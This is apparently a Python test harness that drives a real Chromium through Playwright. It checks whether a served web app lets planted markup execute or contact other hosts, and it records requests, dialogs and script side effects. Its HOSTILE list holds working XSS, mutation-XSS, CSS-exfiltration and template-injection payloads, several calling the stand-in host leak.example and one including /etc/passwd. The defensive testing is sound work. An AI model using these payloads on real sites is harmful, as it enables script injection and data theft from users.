"""A real Chromium, and what a page in it tried to do: requests, dialogs, errors."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
QUIET = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--no-first-run"]

HOSTILE = [
    "<script>window.top.ran = 1; fetch('http://leak.example/a')</script>",
    '"><img src=x onerror="window.ran = 1; fetch(\'http://leak.example/b\')">',
    "'><svg onload=\"ran=1\"><image href='http://leak.example/c'/></svg>",
    "</title></style></textarea></script><script>ran=1</script>",
    "<svg><style><img src=x onerror=ran=1></style></svg>",  # parsed again as markup in foreign content
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;">',
    "javascript:ran=1",
    "data:text/html,<script>ran=1</script>",
    "<a href=\"javascript:ran=1\">click</a><a href='data:text/html,x' autofocus onfocus=ran=1>x</a>",
    "<style>@import 'http://leak.example/d'; *{background:url(http://leak.example/e)}</style>",
    "<link rel=stylesheet href=http://leak.example/f><base href=http://leak.example/>",
    "<meta http-equiv=refresh content='0;url=http://leak.example/g'><iframe srcdoc='<script>ran=1</script>'></iframe>",
    "{{ ''.__class__ }}{% include '/etc/passwd' %}${ran=1}",
    "&lt;script&gt;ran=1&lt;/script&gt; &#x3c;script&#x3e;ran=1",
]
"""Script, SVG, data: and javascript: addresses, style sheets, mutated markup, and template injection."""


@dataclass
class Watched:
    """A page and what it did beyond showing itself."""

    page: Page
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def ran(self) -> list[object]:
        """What planted scripts left behind in any frame; empty where none ran."""
        return [value for frame in self.page.frames if (value := frame.evaluate("window.ran"))]


@contextmanager
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium on this machine")
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        try:
            yield started
        finally:
            started.close()


@contextmanager
def served(app: Any) -> Iterator[str]:
    """An ASGI app on loopback."""
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="critical", lifespan="off"))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()


def watch(context: BrowserContext) -> Watched:
    """A new page under watch; nothing that it asks of another host is sent."""
    watched = Watched(context.new_page())
    watched.page.on("request", lambda request: watched.requests.append(request.url))
    watched.page.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
    context.route("**leak.example**", lambda route: route.abort())
    return watched
